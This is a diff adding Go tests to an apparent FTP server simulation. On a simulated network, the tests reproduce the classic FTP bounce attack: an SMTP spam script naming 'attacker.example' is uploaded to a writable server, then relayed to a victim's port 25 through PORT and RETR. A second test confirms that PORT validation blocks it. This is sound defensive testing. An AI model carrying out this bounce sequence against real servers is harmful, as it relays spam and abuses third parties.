@@ -1,0 +1,91 @@
+package ftpserver
+
+import (
+	"io"
+	"strings"
+	"testing"
+	"time"
+
+	"ftpcloud/internal/ftp"
+	"ftpcloud/internal/personality"
+	"ftpcloud/internal/simnet"
+)
+
+// TestClassicBounceAttackRelay reproduces §VII.B's combined attack: on a
+// server that is both world-writable and PORT-unvalidated, an attacker
+// uploads a file containing protocol commands and then bounces it to a
+// third-party service — coercing the FTP server into speaking SMTP at a
+// victim.
+func TestClassicBounceAttackRelay(t *testing.T) {
+	cfg := anonConfig()
+	cfg.Pers = personality.ByKey(personality.KeyHostedHomePL) // no PORT validation
+	cfg.AnonWritable = true
+	env := newEnv(t, cfg)
+
+	// The "victim" SMTP service on a third-party address.
+	victim := simnet.MustParseIP("203.0.113.25")
+	l, err := env.nw.Listen(victim, 25)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer l.Close()
+	received := make(chan string, 1)
+	go func() {
+		conn, err := l.Accept()
+		if err != nil {
+			return
+		}
+		defer conn.Close()
+		conn.SetReadDeadline(time.Now().Add(3 * time.Second))
+		body, _ := io.ReadAll(conn)
+		received <- string(body)
+	}()
+
+	c, _ := env.dial(t)
+	login(t, c)
+
+	// Step 1: upload the command script.
+	script := "HELO attacker.example\r\nMAIL FROM:<spam@attacker.example>\r\nRCPT TO:<victim@example.org>\r\n"
+	dc := env.openPassive(t, c)
+	if r, _ := c.Cmd("STOR", "/smtp-cmds.txt"); !r.Preliminary() {
+		t.Fatal("STOR refused")
+	}
+	dc.Write([]byte(script))
+	dc.Close()
+	c.ReadReply()
+
+	// Step 2: PORT to the victim's SMTP port and RETR the script.
+	hp := ftp.HostPort{IP: victim.Octets(), Port: 25}
+	if r, _ := c.Cmd("PORT", hp.Encode()); r.Code != ftp.CodeOK {
+		t.Fatalf("PORT to victim rejected: %+v", r)
+	}
+	if r, _ := c.Cmd("RETR", "/smtp-cmds.txt"); !r.Preliminary() {
+		t.Fatalf("RETR bounce refused: %+v", r)
+	}
+	if r, _ := c.ReadReply(); r.Code != ftp.CodeTransferOK {
+		t.Fatalf("bounce completion: %+v", r)
+	}
+
+	select {
+	case got := <-received:
+		if !strings.Contains(got, "MAIL FROM:<spam@attacker.example>") {
+			t.Errorf("victim received %q", got)
+		}
+	case <-time.After(3 * time.Second):
+		t.Fatal("victim SMTP service never contacted")
+	}
+}
+
+// TestBounceAttackBlockedByValidation shows the same attack failing against
+// an implementation that validates PORT arguments.
+func TestBounceAttackBlockedByValidation(t *testing.T) {
+	cfg := anonConfig()
+	cfg.AnonWritable = true // writable, but ProFTPD validates PORT
+	env := newEnv(t, cfg)
+	c, _ := env.dial(t)
+	login(t, c)
+	hp := ftp.HostPort{IP: [4]byte{203, 0, 113, 25}, Port: 25}
+	if r, _ := c.Cmd("PORT", hp.Encode()); r.Code != ftp.CodeCmdUnrecognized {
+		t.Fatalf("validating server accepted third-party PORT: %+v", r)
+	}
+}
